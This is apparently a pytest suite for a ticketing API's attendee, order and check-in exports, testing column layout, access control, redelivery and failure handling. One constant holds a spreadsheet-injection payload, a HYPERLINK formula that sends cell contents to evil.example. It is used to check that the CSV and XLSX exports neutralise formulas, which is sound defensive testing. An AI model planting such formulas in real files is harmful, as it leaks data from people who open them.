"""Exports: 202, written by the exports consumer, done with a link; Open Event's column
names; spreadsheet injection neutralised; owner and staff only, and an export and its
file are the asker's alone (404 for anyone else)."""

from __future__ import annotations

import csv
import io
import os
import uuid
from dataclasses import replace

import openpyxl
from sqlalchemy import func, select

from consumers.exports import CONSUMER
from models.core.outbox import OutboxMessage
from models.ticketing.exports.tables import Export
from models.ticketing.tables import Order
from tests.support.api import assert_error, auth, create_event, doc, make_staff, sign_up
from tests.support.deliveries import give_up, handle, routed_to
from tests.support.orders import user_named
from tests.support.ticketing import buy, make_ticket, person

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def ask(client, token: str, event_id: str, kind: str = "attendees", format_: str = "csv"):
    return client.post(f"/v1/events/{event_id}/exports", headers=auth(token),
                       json=doc("export", {"kind": kind, "format": format_}))


def write_pending(db) -> None:
    handle(db, CONSUMER.handle, routed_to(db, "exports"), consumer="exports")


def event_with_attendees(client) -> tuple[str, str]:
    owner = sign_up(client, "owner@example.com")
    event_id = create_event(client, owner)
    ticket = make_ticket(client, owner, event_id, 10)
    r = buy(client, owner, event_id, [person(ticket, first=EVIL, last="+SUM(1,2)"),
                                      person(ticket, first="Grace", last="Hopper",
                                             email="grace@example.com")])
    assert r.status_code == 201, r.get_json()
    return owner, event_id


def download(client, token: str, export_id: str):
    return client.get(f"/v1/exports/{export_id}/file", headers=auth(token))


def test_an_attendee_export_is_written_with_open_events_columns_and_no_formula(client, db):
    owner, event_id = event_with_attendees(client)
    r = ask(client, owner, event_id)
    assert r.status_code == 202, r.get_json()
    export_id = r.get_json()["data"]["id"]
    assert r.headers["Location"].endswith(f"/v1/exports/{export_id}")
    assert r.get_json()["data"]["attributes"]["status"] == "requested"
    assert_error(download(client, owner, export_id), 409, "export_not_ready")

    write_pending(db)
    attrs = client.get(f"/v1/exports/{export_id}", headers=auth(owner)).get_json()[
        "data"]["attributes"]
    assert (attrs["status"], attrs["row-count"]) == ("done", 2)
    assert attrs["file-url"].endswith(f"/v1/exports/{export_id}/file")
    r = download(client, owner, export_id)
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(r.get_data().decode("utf-8-sig"))))
    assert list(rows[0])[:7] == ["Order#", "Order Date", "Status", "Payment Mode",
                                 "Ticket Name", "Ticket Price", "Ticket Type"]
    assert [(row["First Name"], row["Last Name"]) for row in rows] == [
        ("'" + EVIL, "'+SUM(1,2)"), ("Grace", "Hopper")]
    with db.session() as s:
        identifier = s.scalar(select(Order.identifier))
    assert [row["Order#"] for row in rows] == [identifier] * 2  # the code on the tickets


def test_an_xlsx_export_holds_text_where_a_formula_was_sent(client, db):
    owner, event_id = event_with_attendees(client)
    export_id = ask(client, owner, event_id, format_="xlsx").get_json()["data"]["id"]
    write_pending(db)
    r = download(client, owner, export_id)
    assert r.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(r.get_data())).active
    header = [c.value for c in sheet[1]]
    first = sheet.cell(row=2, column=header.index("First Name") + 1)
    assert (first.data_type, first.value) == ("s", "'" + EVIL)


def test_orders_and_check_ins_exports_have_their_columns(client, db):
    owner, event_id = event_with_attendees(client)
    ids = [ask(client, owner, event_id, kind).get_json()["data"]["id"]
           for kind in ("orders", "check-ins")]
    write_pending(db)
    orders, scans = (download(client, owner, i).get_data().decode("utf-8-sig").splitlines()
                     for i in ids)
    assert orders[0] == ("Order#,Order Date,Status,Payment Mode,Total Amount,Quantity,"
                         "Discount Code,Email")
    assert len(orders) == 2 and orders[1].split(",")[5] == "2"
    assert scans == ["Time,Kind,Device Name,Attendee ID,First Name,Last Name,Ticket Name"]


def test_another_users_export_and_its_link_are_not_found(client, db):
    owner, event_id = event_with_attendees(client)
    staff, stranger = sign_up(client, "staff@example.com"), sign_up(client, "x@example.com")
    make_staff(client, owner, event_id, "staff@example.com", staff)
    export_id = ask(client, owner, event_id).get_json()["data"]["id"]
    write_pending(db)
    for other in (staff, stranger):  # staff of the same event too: it is not theirs
        assert_error(client.get(f"/v1/exports/{export_id}", headers=auth(other)), 404)
        assert_error(download(client, other, export_id), 404)
    assert download(client, owner, export_id).status_code == 200


def test_only_owner_and_staff_may_export_and_bad_input_creates_nothing(client, db):
    owner, event_id = event_with_attendees(client)
    staff, stranger = sign_up(client, "staff@example.com"), sign_up(client, "x@example.com")
    make_staff(client, owner, event_id, "staff@example.com", staff)
    before = _counts(db)
    assert_error(ask(client, stranger, event_id), 403)
    assert_error(ask(client, owner, event_id, kind="users"), 422,
                 pointer="/data/attributes/kind")
    assert_error(ask(client, owner, event_id, format_="pdf"), 422,
                 pointer="/data/attributes/format")
    assert_error(ask(client, owner, "99999"), 404)
    assert _counts(db) == before
    assert ask(client, staff, event_id).status_code == 202


def test_staff_removed_since_lose_their_export(client, db):
    owner, event_id = event_with_attendees(client)
    staff = sign_up(client, "staff@example.com")
    make_staff(client, owner, event_id, "staff@example.com", staff)
    export_id = ask(client, staff, event_id).get_json()["data"]["id"]
    write_pending(db)
    assert download(client, staff, export_id).status_code == 200
    staff_id = user_named(db, "staff@example.com").id
    r = client.delete(f"/v1/events/{event_id}/staff/{staff_id}", headers=auth(owner))
    assert r.status_code == 204, r.get_data()
    assert_error(download(client, staff, export_id), 404)


def test_a_redelivered_request_writes_nothing_twice(client, db):
    owner, event_id = event_with_attendees(client)
    ask(client, owner, event_id)
    [message] = routed_to(db, "exports")
    handle(db, CONSUMER.handle, [message], consumer="exports")
    with db.session() as s:
        done = s.scalar(select(Export))
    path = done.file_path
    mtime = os.stat(path).st_mtime_ns
    handle(db, CONSUMER.handle, [replace(message, message_id=str(uuid.uuid4()))],
           consumer="exports")
    assert os.stat(path).st_mtime_ns == mtime


def _counts(db) -> tuple[int, int]:
    with db.session() as s:
        return (s.scalar(select(func.count()).select_from(Export)),
                s.scalar(select(func.count()).select_from(OutboxMessage)))


def test_an_export_that_keeps_failing_is_marked_failed_with_the_reason(client, db):
    owner, event_id = event_with_attendees(client)
    export_id = ask(client, owner, event_id).get_json()["data"]["id"]
    [message] = routed_to(db, "exports")
    give_up(db, CONSUMER.on_give_up, message, "disk full")
    attrs = client.get(f"/v1/exports/{export_id}", headers=auth(owner)).get_json()[
        "data"]["attributes"]
    assert (attrs["status"], attrs["failure-reason"], attrs["file-url"]) == (
        "failed", "disk full", None)
    write_pending(db)  # a late redelivery writes nothing for a failed export
    assert_error(download(client, owner, export_id), 409, "export_not_ready")
